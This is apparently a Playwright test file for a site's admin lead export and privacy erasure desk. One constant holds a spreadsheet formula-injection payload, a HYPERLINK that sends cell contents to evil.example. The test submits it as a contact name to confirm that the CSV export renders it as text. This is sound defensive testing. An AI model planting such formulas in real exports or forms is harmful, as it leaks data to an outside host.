// Staff's export of the lead list (a CSV of the current filter, safe to open in a spreadsheet) and
// the privacy desk (find everything held for an address, delete it in one step, keep a record
// without the address). Both run with JavaScript on and off.
import { readFile } from "node:fs/promises";
import { parse } from "csv-parse/sync";
import type { Page, TestInfo } from "@playwright/test";
import { signInAsAdmin } from "../support/admin";
import { axeViolations } from "../support/axe";
import { openBookingDay } from "../support/booking-days";
import { connectToDataDir } from "../support/database";
import { E2E_DATA_DIR } from "../support/e2e";
import { toastWith } from "./contact-helpers";
import { expect, test } from "./fixtures";
import { finishAudit } from "./free-it-audit-helpers";
import { phoneField, TEST_PHONE } from "../support/booking-form";

const HOSTILE = '=HYPERLINK("https://evil.example/steal?d="&A1,"Click for details")';

/** Letters and digits only: the lead search finds it as one word of the address. */
const token = (testInfo: TestInfo) =>
  `z${testInfo.project.name.replace(/\W/g, "")}${Date.now()}${Math.random().toString(36).slice(2, 7)}`;

async function sendContactRequest(page: Page, name: string, email: string) {
  await page.goto("/contact");
  const form = page.locator("#contact-page-form");
  await form.getByLabel("Name").fill(name);
  await form.getByLabel("Email").fill(email);
  await form.getByLabel("Message").fill("Please call us about backups for our two offices.");
  await form.getByRole("button", { name: "Send Message" }).click();
  await expect(toastWith(page, "Message Sent!")).toBeVisible();
  await expect.poll(() => count("select count(*)::int as n from contact_requests where email = $1", [email])).toBe(1);
}

async function bookCall(page: Page, testInfo: TestInfo, email: string) {
  await page.goto("/book");
  // Days from the end no other booking test uses (they take 0, 2, 4, 5, 6, 8...).
  await openBookingDay(page, { fromEnd: testInfo.project.use.javaScriptEnabled === false ? 7 : 3 });
  const times = page.getByTestId("booking-slots").getByRole("link");
  await expect(times.first()).toBeVisible();
  await times.nth(6).click();
  const form = page.locator("#booking-form");
  await form.getByLabel("Name").fill("Pat Privacy");
  await form.getByLabel("Email").fill(email);
  await phoneField(form).fill(TEST_PHONE);
  await form.getByRole("button", { name: "Book this call" }).click();
  await expect(page.getByRole("heading", { level: 1, name: "You're booked!" })).toBeVisible();
}

async function count(query: string, params: unknown[]): Promise<number> {
  const client = await connectToDataDir(E2E_DATA_DIR);
  try {
    return (await client.query<{ n: number }>(query, params)).rows[0]!.n;
  } finally {
    await client.end();
  }
}

async function expectAxeClean(page: Page, label: string) {
  expect(await axeViolations(page), label).toEqual([]);
}

test("the export is the current filter's leads as CSV, with a hostile name shown as text", async ({
  page,
}, testInfo) => {
  const word = token(testInfo);
  await sendContactRequest(page, "Ada Export", `${word}.first@example.com`);
  await sendContactRequest(page, HOSTILE, `${word}.second@example.com`);
  await sendContactRequest(page, "Not In Filter", `other.${Date.now()}@example.com`);

  // Staff filter the list, then export what they see.
  await signInAsAdmin(page, "/admin/leads");
  const filters = page.locator('form[aria-label="Find leads"]');
  await filters.getByLabel("Search").fill(word);
  await filters.getByLabel("Kind").selectOption("contact");
  await filters.getByRole("button", { name: "Find leads" }).click();
  await expect(page).toHaveURL(/[?&]kind=contact/);
  const exportLink = page.getByTestId("lead-toolbar").getByRole("link", { name: "Export CSV" });
  await expect(exportLink).toHaveAttribute("href", `/admin/leads/export.csv?q=${word}&kind=contact`);
  const [download] = await Promise.all([page.waitForEvent("download"), exportLink.click()]);
  expect(download.suggestedFilename()).toMatch(/^leads-\d{4}-\d{2}-\d{2}\.csv$/);
  const bytes = await readFile((await download.path())!);
  expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
  const text = bytes.toString("utf8");
  expect(text).toContain("\r\n");
  const answer = await page.request.get(`/admin/leads/export.csv?q=${word}`);
  expect(answer.headers()["content-type"]).toBe("text/csv; charset=utf-8");
  expect(answer.headers()["content-disposition"]).toMatch(/^attachment; filename="leads-\d{4}-\d{2}-\d{2}\.csv"$/);
  const [header, ...rows] = parse(text, { bom: true }) as string[][];
  const at = (name: string) => header!.indexOf(name);
  // Newest first: the hostile one was sent second.
  expect(rows.map((row) => row[at("Email")])).toEqual([`${word}.second@example.com`, `${word}.first@example.com`]);
  expect(rows[0]![at("Name")]).toBe(`'${HOSTILE}`);
  expect(rows[1]![at("Name")]).toBe("Ada Export");
  expect(rows[0]![at("Kind")]).toBe("Contact request");
  expect(rows[0]![at("Status")]).toBe("New");

  const refused = await page.request.get("/admin/leads/export.csv?kind=telepathy&from=2026-13-45");
  expect(refused.status()).toBe(400);
  const message = await refused.text();
  expect(message).toContain("The export was not made");
  expect(message).toContain("Kind: Choose a kind from the list.");
  expect(message).toContain("From: Enter a date as YYYY-MM-DD");
});

test("staff find everything held for an address and delete it in one step, with a record", async ({
  page,
}, testInfo) => {
  test.setTimeout(120_000);
  const word = token(testInfo);
  const email = `Pat.${word}@Example.com`;
  await sendContactRequest(page, "Pat Privacy", email);
  await bookCall(page, testInfo, email);
  await finishAudit(page, email);
  // Someone else, who must keep everything.
  const bystander = `${word}.bystander@example.com`;
  // Its own reference: both projects run against one server.
  const ticket = `Ticket ${testInfo.project.name} ${Math.floor(Math.random() * 1e9)}`;
  await sendContactRequest(page, "Bea Bystander", bystander);

  await signInAsAdmin(page, "/admin/privacy");
  await page.getByLabel("Email address").fill(email.toLowerCase());
  await page.getByRole("button", { name: "Find what we hold" }).click();
  const held = page.getByTestId("privacy-holdings");
  await expect(held.getByRole("heading", { name: `What we hold for ${email.toLowerCase()}` })).toBeVisible();
  await expect(held.getByRole("heading", { name: "Contact requests (1)" })).toBeVisible();
  await expect(held.getByRole("heading", { name: "Booked calls (1)" })).toBeVisible();
  await expect(held.getByRole("heading", { name: "Finished audits (1)" })).toBeVisible();
  await expect(held.getByText("still to come", { exact: true })).toBeVisible();
  await expect(held.getByRole("note")).toContainText("still to come");
  // axe runs inside the page; without JavaScript the fixture audits the HTML each page was served as.
  if (testInfo.project.use.javaScriptEnabled !== false) await expectAxeClean(page, "/admin/privacy with what is held");

  // A confirmation that is not the address is refused, next to its field.
  await page.getByLabel("Type the address again to confirm").fill(bystander);
  await page.getByLabel("Reference").fill(ticket);
  await page.getByRole("button", { name: `Delete everything for ${email.toLowerCase()}` }).click();
  const confirm = page.getByLabel("Type the address again to confirm");
  await expect(confirm).toHaveAttribute("aria-invalid", "true");
  await expect(page.locator(`#${await confirm.getAttribute("aria-describedby")}`)).toHaveText(
    "This is not the same address. Type the address shown above to confirm.",
  );
  expect(await count("select count(*)::int as n from contact_requests where lower(email) = lower($1)", [email])).toBe(
    1,
  );

  await page.getByLabel("Type the address again to confirm").fill(email.toUpperCase());
  await page.getByLabel("Reference").fill(ticket);
  await page.getByRole("button", { name: `Delete everything for ${email.toLowerCase()}` }).click();
  await expect(toastWith(page, "Deleted everything for that address")).toBeVisible();
  await expect(page).toHaveURL((url) => url.pathname === "/admin/privacy" && url.search === "");
  const record = page.getByTestId("privacy-erasure").filter({ hasText: ticket });
  await expect(record).toContainText("1 contact request, 1 booking, 1 finished audit");

  for (const table of ["contact_requests", "bookings", "assessments", "leads"])
    expect(await count(`select count(*)::int as n from ${table} where lower(email) = lower($1)`, [email]), table).toBe(
      0,
    );
  expect(await count("select count(*)::int as n from contact_requests where email = $1", [bystander])).toBe(1);
  expect(
    await count("select count(*)::int as n from privacy_erasures where reference = $1 and erased_by <> ''", [ticket]),
  ).toBe(1);
  expect(
    await count(
      "select count(*)::int as n from privacy_erasures where position(lower($1) in lower(row(privacy_erasures.*)::text)) > 0",
      [word],
    ),
  ).toBe(0);

  // Gone from the staff's views too; and looking the address up again says it was erased before.
  await page.goto("/admin/messages");
  await expect(page.getByText(email, { exact: false })).toHaveCount(0);
  await page.goto(`/admin/leads?q=${word}`);
  await expect(page.getByText(bystander)).toBeVisible();
  await expect(page.getByText(email, { exact: false })).toHaveCount(0);
  await page.goto(`/admin/privacy?email=${encodeURIComponent(email)}`);
  await expect(page.getByTestId("privacy-total")).toHaveText(
    "Nothing: no contact request, booking, audit or e-mail carries this address.",
  );
  await expect(page.getByText("This address was erased before")).toBeVisible();
});

test("the privacy page explains a malformed address next to the field", async ({ page }) => {
  await signInAsAdmin(page, "/admin/privacy");
  await page.goto("/admin/privacy?email=not-an-address");
  const field = page.getByLabel("Email address");
  await expect(field).toHaveAttribute("aria-invalid", "true");
  await expect(page.getByText("Enter a valid email address, like name@example.com.")).toBeVisible();
});
